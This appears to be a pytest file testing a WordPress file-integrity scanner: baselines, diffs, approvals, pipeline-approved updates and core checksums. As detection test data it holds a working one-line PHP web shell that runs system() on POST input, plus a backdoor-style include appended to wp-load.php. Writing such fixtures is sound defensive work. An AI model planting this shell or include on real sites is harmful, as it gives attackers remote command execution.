"""File integrity on a copy of Debian's WordPress core: baseline, detection with diff and timestamps,
approval, pipeline changes, core checksums, the stat cache."""

from __future__ import annotations

import datetime as dt
import hashlib
import json
import os
import shutil
from pathlib import Path

import pytest

from sitekeeper.access.models import AuditEntry
from sitekeeper.desk.models import Ticket
from sitekeeper.security import integrity
from sitekeeper.security.models import Baseline, Finding, FindingStatus, ScanState
from sitekeeper.security.tree import TreeError

WORDPRESS = Path("/usr/share/wordpress")
SHELL = b"<?php if (isset($_POST['c'])) { system($_POST['c']); } ?>\n"
NOW = dt.datetime(2026, 11, 20, 3, 0, tzinfo=dt.UTC)


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    if not WORDPRESS.is_dir():
        pytest.skip("Debian's wordpress package is not installed")
    root = tmp_path / "site"
    shutil.copytree(WORDPRESS, root, symlinks=True, ignore=shutil.ignore_patterns("wp-content"))
    return root


@pytest.fixture
def small(tmp_path: Path) -> Path:
    root = tmp_path / "small"
    (root / "wp-includes").mkdir(parents=True)
    (root / "wp-includes/version.php").write_text("<?php\n$wp_version = '6.1.9';\n$wp_db_version = 53496;\n")
    (root / "index.php").write_text("<?php\nrequire __DIR__ . '/wp-blog-header.php';\n")
    (root / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)
    (root / "style.css").write_text("body { color: black; }\n")
    return root


def open_integrity(site) -> dict[str, Finding]:
    return {f.key: f for f in Finding.objects.filter(site=site, kind="integrity", status=FindingStatus.OPEN)}


@pytest.mark.django_db
def test_first_scan_creates_the_baseline_and_second_rehashes_nothing(acme, small):
    site = acme.sites.get()
    first = integrity.scan(site, root=small, now=NOW)
    assert (first.files, first.hashed, first.skipped, first.error) == (4, 4, 0, "")
    assert first.changes["baseline"] == "created"
    assert Baseline.objects.filter(site=site, origin="initial").count() == 4
    assert (
        integrity.unpack(Baseline.objects.get(site=site, path="style.css").content)
        == b"body { color: black; }\n"
    )
    assert Baseline.objects.get(site=site, path="logo.png").content == ""  # binary: no copy
    second = integrity.scan(site, root=small, now=NOW + dt.timedelta(hours=1))
    assert (second.hashed, second.skipped, second.full_rehash) == (0, 4, False)
    assert not open_integrity(site)
    # The periodic full re-hash reads everything again, and a change that kept size and mtime is caught.
    css = small / "style.css"
    stat = css.stat()
    css.write_text("body { color: white; }\n")
    os.utime(css, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    if css.stat().st_ino == stat.st_ino:
        assert integrity.scan(site, root=small, now=NOW + dt.timedelta(hours=2)).hashed == 0
    full = integrity.scan(site, root=small, now=NOW + dt.timedelta(days=8))
    assert (full.full_rehash, full.hashed) == (True, 4)
    assert "style.css" in open_integrity(site)


@pytest.mark.django_db
def test_mode_change_and_removal_are_reported(acme, small):
    site = acme.sites.get()
    integrity.scan(site, root=small, now=NOW)
    (small / "index.php").chmod(0o777)
    (small / "logo.png").unlink()
    scan = integrity.scan(site, root=small, now=NOW + dt.timedelta(hours=1))
    assert scan.changes == {"added": [], "changed": ["index.php"], "removed": ["logo.png"]}
    found = open_integrity(site)
    assert found["index.php"].details["change"] == "mode"
    assert found["index.php"].details["mode"] == "0o777"
    assert found["logo.png"].details["change"] == "removed"
    assert found["logo.png"].severity == "medium"
    # Putting things back resolves the findings without anyone approving.
    (small / "index.php").chmod(0o644)
    (small / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)
    (small / "index.php").chmod(Baseline.objects.get(site=site, path="index.php").mode)
    integrity.scan(site, root=small, now=NOW + dt.timedelta(hours=2))
    assert not open_integrity(site)


@pytest.mark.django_db
@pytest.mark.slow
def test_web_shell_and_core_change_detected_then_approved(acme, tree, engineer):
    site = acme.sites.get()
    integrity.scan(site, root=tree, now=NOW)
    tickets = Ticket.objects.count()
    (tree / "wp-includes/images/x.php").write_bytes(SHELL)
    load = tree / "wp-load.php"
    load.write_text(load.read_text() + "@include '/tmp/.cache.php';\n")
    scan = integrity.scan(site, root=tree, now=NOW + dt.timedelta(hours=6))
    assert scan.changes == {"added": ["wp-includes/images/x.php"], "changed": ["wp-load.php"], "removed": []}
    assert scan.hashed == 2
    assert scan.skipped == scan.files - 2
    found = open_integrity(site)
    shell, core = found["wp-includes/images/x.php"], found["wp-load.php"]
    assert shell.details["change"] == "added"
    assert "+<?php if (isset($_POST['c']))" in shell.details["diff"]
    assert "+@include '/tmp/.cache.php';" in core.details["diff"]
    assert core.details["diff"].startswith("--- baseline/wp-load.php\n+++ current/wp-load.php\n")
    assert core.details["baseline_origin"] == "initial"
    assert core.details["baseline_approved_at"] == NOW.isoformat()
    assert core.details["modified_at"] == dt.datetime.fromtimestamp(load.stat().st_mtime, dt.UTC).isoformat(
        timespec="seconds"
    )
    assert core.first_seen == NOW + dt.timedelta(hours=6)
    assert core.severity == "high"
    assert Ticket.objects.count() == tickets + 2  # one incident each (P2: PHP)
    assert {t.priority for t in Ticket.objects.order_by("-pk")[:2]} == {"P2"}

    # Seen again: the same findings, no new incidents.
    integrity.scan(site, root=tree, now=NOW + dt.timedelta(hours=7))
    assert Ticket.objects.count() == tickets + 2

    done = integrity.approve(site, "all", engineer, root=tree, now=NOW + dt.timedelta(hours=8))
    assert done == ["wp-includes/images/x.php", "wp-load.php"]
    row = Baseline.objects.get(site=site, path="wp-load.php")
    assert (row.origin, row.approved_by, row.sha256) == (
        "person",
        engineer,
        hashlib.sha256(load.read_bytes()).hexdigest(),
    )
    assert AuditEntry.objects.filter(actor=engineer).exists()
    assert Finding.objects.get(pk=core.pk).decided_by == engineer
    assert not open_integrity(site)
    after = integrity.scan(site, root=tree, now=NOW + dt.timedelta(hours=9))
    assert after.changes == {"added": [], "changed": [], "removed": []}
    assert not open_integrity(site)


@pytest.mark.django_db
def test_pipeline_change_does_not_alert(acme, small):
    site = acme.sites.get()
    integrity.scan(site, root=small, now=NOW)
    tickets = Ticket.objects.count()
    with integrity.pipeline_change(site, release="wordpress 6.1.9 → 6.1.10", root=small):
        (small / "wp-includes/version.php").write_text("<?php\n$wp_version = '6.1.10';\n")
        (small / "wp-includes/new.php").write_text("<?php // new in 6.1.10\n")
    scan = integrity.scan(site, root=small, now=NOW + dt.timedelta(hours=1))
    assert scan.changes == {"added": [], "changed": [], "removed": []}
    assert not open_integrity(site)
    assert Ticket.objects.count() == tickets
    row = Baseline.objects.get(site=site, path="wp-includes/new.php")
    assert (row.origin, row.release, row.approved_by) == ("pipeline", "wordpress 6.1.9 → 6.1.10", None)
    # Explicit paths: only those are re-baselined; another change in the same window still alerts.
    with integrity.pipeline_change(site, ["index.php"], release="hotfix", root=small):
        (small / "index.php").write_text("<?php // patched\n")
        (small / "style.css").write_text("body { display: none }\n")
    integrity.scan(site, root=small, now=NOW + dt.timedelta(hours=2))
    assert set(open_integrity(site)) == {"style.css"}


@pytest.mark.django_db
def test_wordpress_core_checksums(acme, small, tmp_path):
    site = acme.sites.get()
    md5 = {
        "index.php": hashlib.md5((small / "index.php").read_bytes()).hexdigest(),  # noqa: S324
        "wp-includes/version.php": "0" * 32,  # differs from the release
        "wp-includes/gone.php": "1" * 32,  # missing
        "wp-content/plugins/akismet/akismet.php": "2" * 32,  # skipped: plugins update on their own
    }
    sums = tmp_path / "checksums.json"
    sums.write_text(json.dumps({"checksums": {"6.1.9": md5}}))
    integrity.scan(site, root=small, checksums_file=sums, now=NOW)
    found = open_integrity(site)
    assert set(found) == {"core:wp-includes/version.php", "core:wp-includes/gone.php"}
    changed = found["core:wp-includes/version.php"]
    assert changed.title == "WordPress 6.1.9 core file differs from the release: wp-includes/version.php"
    assert changed.details["expected_md5"] == "0" * 32
    assert "modified_at" in changed.details
    bad = tmp_path / "bad.json"
    bad.write_text("{}")
    with pytest.raises(integrity.IntegrityError, match="not readable"):
        integrity.scan(site, root=small, checksums_file=bad, now=NOW)


@pytest.mark.django_db
def test_missing_folder_is_a_clear_error(acme, tmp_path):
    site = acme.sites.get()
    with pytest.raises(TreeError, match="no folder to scan"):
        integrity.scan(site)
    with pytest.raises(TreeError, match="does not exist"):
        integrity.scan(site, root=tmp_path / "nope")
    assert not ScanState.objects.exists()
